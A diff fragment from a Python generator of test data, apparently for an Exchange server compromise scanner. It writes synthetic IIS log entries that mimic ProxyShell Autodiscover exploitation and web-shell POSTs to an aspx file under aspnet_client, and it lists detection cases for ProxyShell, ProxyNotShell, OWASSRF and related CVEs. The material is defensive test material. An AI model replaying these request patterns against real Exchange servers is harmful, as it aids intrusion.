+    e = iis_benign(d, 2021)
+    e += [req(d + " 01:37:26", "POST", AUTODISCOVER_JSON, PS_Q_NSPI, "", "198.51.100.9",
+              UA_PYREQ_26, 401, 12),
+          req(d + " 02:00:14", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.5",
+              UA_CHROME92, 200, 2214),
+          req(d + " 02:10:08", "POST", "/aspnet_client/qfdmh.aspx", "", "", "203.0.113.5",
+              UA_CHROME92, 200, 530),
+          req(d + " 02:10:47", "POST", "/aspnet_client/qfdmh.aspx", "", "", "203.0.113.5",
+              UA_CHROME92, 200, 1611)]
+    iis_write(root, e)
+
+
+# --------------------------------------------------------------------------------------
 
 E2E_OWNED = [
     "pl-autodiscover-only", "pl-ssrf-backend", "pl-emsmdb", "pl-proxylogon-ecp", "pl-ddiservice",
@@ -2048,6 +2471,15 @@ E2E_OWNED = [
     "loc-ecp-auth", "loc-known-path", "loc-known-name-near", "loc-iis-vdir",
     "loc-iis-vdir-near", "ioc-hash-custom", "ioc-mstic-csv", "ioc-ip-list", "lsass-in-zip",
     "lsass-in-zip-near",
+    # IIS W3C and Rps_Http (gen_e2e_iis)
+    "iis-proxyshell-attempt", "iis-proxyshell-exploit", "iis-proxyshell-near",
+    "iis-proxynotshell-attempt", "iis-proxynotshell-exploit", "iis-owassrf-exploit",
+    "iis-owassrf-attempt", "iis-owassrf-near", "rps-clientinfo-exploit", "rps-clientinfo-attempt",
+    "rps-clientinfo-near", "iis-cve-2020-0688", "iis-cve-2020-0688-near", "iis-proxytoken",
+    "iis-proxytoken-near", "iis-proxylogon-shapes", "iis-proxylogon-shapes-near",
+    "iis-shell-commands", "iis-shell-commands-near", "iis-known-shell-name",
+    "iis-known-shell-name-near", "iis-shell-used", "iis-shell-used-near", "iis-fields-change",
+    "iis-scanner-noise", "iis-internal-attempt", "iis-internal-exploit", "timeline-text",
 ]
 
 
@@ -2068,6 +2500,7 @@ def main():
     gen_clean()
     gen_e2e()
     gen_e2e_files()
+    gen_e2e_iis()
     assert set(E2E_EXTRA) <= set(CASES)
     assert CASES == E2E_OWNED, "update E2E_OWNED to match the cases defined"
     total = sum(n for _, n in WRITTEN)
